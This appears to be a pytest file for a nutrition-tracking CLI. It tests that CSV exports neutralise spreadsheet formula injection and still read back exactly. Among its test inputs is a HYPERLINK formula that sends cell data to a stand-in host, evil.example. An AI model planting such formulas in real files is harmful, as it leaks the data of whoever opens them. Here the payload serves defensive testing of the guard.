"""CSV exports hold no formula a spreadsheet would run (CSV injection), and still read
back exactly: text that looks like a formula is written after an apostrophe, which
the import takes off again; numbers, negative ones too, are written as they are."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from cli_support import Cli
from mgtui.store import Repository
from mgtui.store.exchange_csv import COLUMNS, from_csv, guard, to_csv, unguard

# What a spreadsheet runs, or would once a cell is edited (OWASP's list), and texts
# that only look like the guard.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=",
]
LOOK_ALIKES = ["'Tis the season", "''", "'", "'=quoted", "Oats, rolled", "", "1/2 cup", "a=b"]


def _document(names: list[str]) -> dict[str, Any]:
    return {
        "format": "mgtui-export",
        "version": 1,
        "exported_at": "2026-11-22T08:30:00Z",
        "profile": None,
        "entries": [
            {
                "id": f"{index:012x}",
                "date": "2026-11-22",
                "time": "08:30",
                "kind": "food",
                "name": name,
                "amount": name,
                "magnesium_mg": -1.5,  # invalid for the store, but a number: never guarded
                "calcium_mg": -3,
                "food_id": name or None,
                "grams": None,
                "form": None,
                "product": name or None,
                "servings": None,
                "vitamin_d_iu": None,
            }
            for index, name in enumerate(names)
        ],
        "supplement_products": [],
        "custom_foods": [],
        "favourite_food_ids": [name for name in names if name],
        "routines": [],
        "medications": [{"name": name, "class": "ppi"} for name in names if name],
    }


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", [*FORMULAS, "\r=1+1", *LOOK_ALIKES])
def test_guard_and_unguard_undo_each_other(text: str) -> None:
    assert unguard(guard(text)) == text
    if text.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert guard(text) == "'" + text


def test_no_text_cell_starts_a_formula_and_every_value_reads_back() -> None:
    document = _document(FORMULAS + LOOK_ALIKES)
    text = to_csv(document)
    assert text.splitlines()[0] == ",".join(COLUMNS)
    for row in _cells(text):
        for column in ("name", "amount", "food_id", "product"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
    entries = [row for row in _cells(text) if row["record"] == "entry"]
    assert entries[0]["name"] == "'" + FORMULAS[0]
    assert entries[-1]["name"] == "a=b"  # only the first character matters
    assert {row["magnesium_mg"] for row in entries} == {"-1.5"}  # numbers as they are
    assert {row["calcium_mg"] for row in entries} == {"-3"}
    assert from_csv(text) == document


def test_a_file_written_before_the_guard_reads_as_it_did() -> None:
    # An older export wrote "'Tis" as it is: the import keeps its apostrophe.
    text = to_csv(_document(["'Tis the season"])).replace("''Tis", "'Tis")
    assert from_csv(text)["entries"][0]["name"] == "'Tis the season"


@pytest.fixture
def cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Cli:
    return Cli(tmp_path / "data", monkeypatch, capsys)


def test_export_import_export_gives_the_same_file(cli: Cli, tmp_path: Path) -> None:
    cli.ok("supplement", "add", "=1+2", "--mg", "100")
    cli.ok("supplement", "add", "@Magnesium", "--compound-mg", "500", "--form", "citrate")
    cli.ok("food", "add", "-Sparkling water", "--per", "l", "--grams", "1000", "--mg", "97")
    cli.ok("take", "=1+2", "--date", "2026-11-20")
    cli.ok("add", "-Sparkling water", "0.5", "l")
    first = tmp_path / "first.csv"
    cli.ok("export", "--format", "csv", "--output", str(first))
    names = [row["name"] for row in _cells(first.read_text()) if row["name"]]
    assert "'=1+2" in names and "'@Magnesium" in names and "'-Sparkling water" in names
    assert not [name for name in names if name.startswith(("=", "+", "-", "@"))]

    cli.data_dir = tmp_path / "restored"
    cli.ok("--data-dir", str(cli.data_dir), "import", str(first))
    second = tmp_path / "second.csv"
    cli.ok("--data-dir", str(cli.data_dir), "export", "--format", "csv", "--output", str(second))

    def without_time(path: Path) -> list[str]:
        return [line for line in path.read_text().splitlines() if not line.startswith("export,")]

    assert without_time(second) == without_time(first)
    with Repository.open(cli.data_dir) as repo:
        assert {p.name for p in repo.supplement_products()} == {"=1+2", "@Magnesium"}
